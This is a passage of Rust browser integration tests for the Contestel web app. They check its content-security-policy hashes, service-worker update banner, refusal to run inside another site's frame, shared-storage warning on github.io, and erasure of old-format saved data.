    let (ok, said, dir) = postbuild(&page(&format!("{BOOTSTRAP}{shell}")), &wasm);
    assert!(ok, "{said}");
    let html = std::fs::read_to_string(dir.join("index.html")).unwrap();
    let (csp, scripts) = csp_and_inline_scripts(&html);
    assert_eq!(scripts.len(), 2);
    for script in scripts {
        let digest = Sha256::digest(script.as_bytes());
        let hash = base64::engine::general_purpose::STANDARD.encode(digest);
        assert!(csp.contains(&format!("'sha256-{hash}'")), "{csp}");
    }
    let _ = std::fs::remove_dir_all(dir);
}

#[tokio::test]
#[ignore = "needs the built dist/ and ChromeDriver: run through `make test`"]
async fn a_page_left_open_learns_of_a_new_version_when_it_comes_back_to_the_foreground() {
    let site = SiteCopy::new("foreground");
    let server = StaticServer::start(&site.0, BASE);
    let browser = Browser::start(1280, 900).await;
    browser.client.goto(&server.url()).await.unwrap();
    browser.wait_for("#sample-button").await;
    wait_for_service_worker(&browser).await;
    // A later visit: the browser checks sw.js once the page is open.
    let before = server.requests().len();
    browser.client.goto(&server.url()).await.unwrap();
    browser.wait_for("#sample-button").await;
    let fetched_sw = |from: usize| {
        server.requests()[from..]
            .iter()
            .filter(|(r, _)| r.ends_with("/sw.js"))
            .count()
    };
    let deadline = Instant::now() + PATIENCE;
    while fetched_sw(before) == 0 {
        assert!(Instant::now() < deadline, "the browser never checked sw.js");
        tokio::time::sleep(Duration::from_millis(50)).await;
    }

    // A new version is published while the page stays open: nothing happens by itself…
    site.edit("sw.js", "const VERSION = \"", "const VERSION = \"2");
    let checks = server.requests().len();
    tokio::time::sleep(Duration::from_secs(2)).await;
    assert_eq!(fetched_sw(checks), 0, "sw.js fetched without a reason");
    assert!(browser
        .client
        .find(Locator::Css("#update-banner"))
        .await
        .is_err());

    // …until the page comes back to the foreground (no navigation).
    let deadline = Instant::now() + PATIENCE;
    loop {
        let shown = browser
            .client
            .execute(
                "document.dispatchEvent(new Event('visibilitychange'));\
                 return !!document.querySelector('#update-banner')",
                vec![],
            )
            .await
            .unwrap();
        if shown == true {
            break;
        }
        assert!(Instant::now() < deadline, "no banner after coming back");
        tokio::time::sleep(Duration::from_millis(200)).await;
    }
    assert!(
        fetched_sw(checks) > 0,
        "the service worker was fetched again"
    );
    browser.close().await;
}

/// Another site framing the app (clickjacking, an imitation) gets an explanation and a
/// link to open it in its own tab, not the app; nothing of the app's data shows.
#[tokio::test]
#[ignore = "needs the built dist/ and ChromeDriver: run through `make test`"]
async fn another_site_s_frame_gets_an_explanation_not_the_app() {
    let server = StaticServer::start(&dist_dir(), BASE);
    // The framing site: another port, so another origin.
    let other = std::env::temp_dir().join(format!("contestel-framer-{}", std::process::id()));
    std::fs::create_dir_all(&other).unwrap();
    std::fs::write(
        other.join("index.html"),
        format!(
            "<!doctype html><title>Un autre site</title>\
             <iframe src=\"{}\" width=\"800\" height=\"600\"></iframe>",
            server.url()
        ),
    )
    .unwrap();
    let framer = StaticServer::start(&other, "/");
    let browser = Browser::start(1280, 900).await;
    browser.client.goto(&framer.url()).await.unwrap();
    browser.wait_for("iframe").await;
    browser.client.enter_frame(0).await.unwrap();
    browser.wait_for("#framed a[target=_blank]").await;
    let text = browser.text("#framed").await;
    assert!(
        text.contains("Contestel ne s'ouvre pas dans la page d'un autre site")
            && text.contains("Contestel does not open inside another site's page"),
        "{text}"
    );
    assert!(browser
        .client
        .find(Locator::Css("#tab-home"))
        .await
        .is_err());
    // The same page in its own tab runs.
    browser.client.enter_parent_frame().await.unwrap();
    browser.client.goto(&server.url()).await.unwrap();
    browser.wait_for("#sample-button").await;
    assert!(browser.client.find(Locator::Css("#framed")).await.is_err());
    assert!(browser
        .client
        .find(Locator::Css("#shared-origin"))
        .await
        .is_err());
    browser.close().await;
    let _ = std::fs::remove_dir_all(&other);
}

/// At a GitHub Pages address (`user.github.io/…`), whose storage every site of the account
/// shares, the page says so.
#[tokio::test]
#[ignore = "needs the built dist/ and ChromeDriver: run through `make test`"]
async fn a_github_io_address_says_its_storage_is_shared_with_other_sites() {
    let server = StaticServer::start(&dist_dir(), BASE);
    let host = format!("ana.github.io:{}", server.port);
    let browser = Browser::start_with(
        1280,
        900,
        BrowserOptions {
            network_log: false,
            args: vec![
                "--host-resolver-rules=MAP ana.github.io 127.0.0.1".to_string(),
                format!("--unsafely-treat-insecure-origin-as-secure=http://{host}"),
            ],
        },
    )
    .await;
    browser
        .client
        .goto(&format!("http://{host}{BASE}"))
        .await
        .unwrap();
    browser.wait_for("#sample-button").await;
    browser.wait_for("#shared-origin").await;
    let text = browser.text("#shared-origin").await;
    assert!(
        text.contains("*.github.io") && text.contains("Exportez vos données"),
        "{text}"
    );
    browser.close().await;
}

/// A copy of the journal in its earlier format, left by an earlier version of the app, is
/// shown in « Mes données » with the day it goes, and the person can erase it at once.
#[tokio::test]
#[ignore = "needs the built dist/ and ChromeDriver: run through `make test`"]
async fn a_copy_in_an_earlier_format_is_shown_in_my_data_and_can_be_erased() {
    let (server, browser) = open_app(1280, 900).await;
    let v1 = r#"{"app":"contestel","version":1,"saved_at":1764150000000,"data":{"cases":[{"id":1,"title":"Dossier supprimé depuis","operator":"Orange","opened_on":"2026-11-26","disputed":"3.00","paid_on":null,"lines":[],"events":[]}],"next_id":2}}"#;
    browser
        .client
        .execute(
            "localStorage.setItem('contestel.journal.v1', arguments[0])",
            vec![serde_json::json!(v1)],
        )
        .await
        .unwrap();
    browser.client.goto("about:blank").await.unwrap();
    browser.client.goto(&server.url()).await.unwrap();
    browser.wait_for("#tab-data").await;
    browser.click("#tab-data").await;
    browser
        .wait_for(".earlier-copies li[data-key='contestel.journal.v1']")
        .await;
    let shown = browser.text(".earlier-copies").await;
    assert!(
        shown.contains("Copies dans un ancien format") && shown.contains("gardée jusqu'au"),
        "{shown}"
    );
    browser.click(".earlier-copies .erase-copy").await;
    browser
        .wait_until(
            "return !document.querySelector('.earlier-copies')",
            "the copy to go",
            PATIENCE,
        )
        .await;
    let left = browser
        .client
        .execute(
            "return [localStorage.getItem('contestel.journal.v1'), \
             localStorage.getItem('contestel.journal.v1.kept_at')]",
            vec![],
        )
        .await
        .unwrap();
    assert_eq!(left, serde_json::json!([null, null]));
    browser.close().await;
}
